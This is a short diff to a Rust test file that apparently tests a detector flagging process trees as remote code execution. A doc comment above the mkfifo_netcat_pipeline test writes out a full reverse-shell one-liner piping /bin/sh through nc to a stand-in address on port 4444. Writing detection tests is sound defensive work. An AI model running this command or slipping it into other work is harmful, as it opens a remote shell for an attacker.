@@ -260,7 +260,9 @@ fn socat_exec_pty() {
     assert_eq!(r.only(RCE).processes[0].name, "id");
 }
 
-/// `rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f`
+/// `rm /tmp/f; mkfifo /tmp/f; cat < /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f`
+/// (cat's stdin is the FIFO; the canonical form, where cat opens it by name, is covered by the
+/// process table's pipe-loop tests and the `rce-mkfifo-nc` example trace).
 #[test]
 fn mkfifo_netcat_pipeline() {
     let (fifo, p1, p2) = (900, 901, 902);
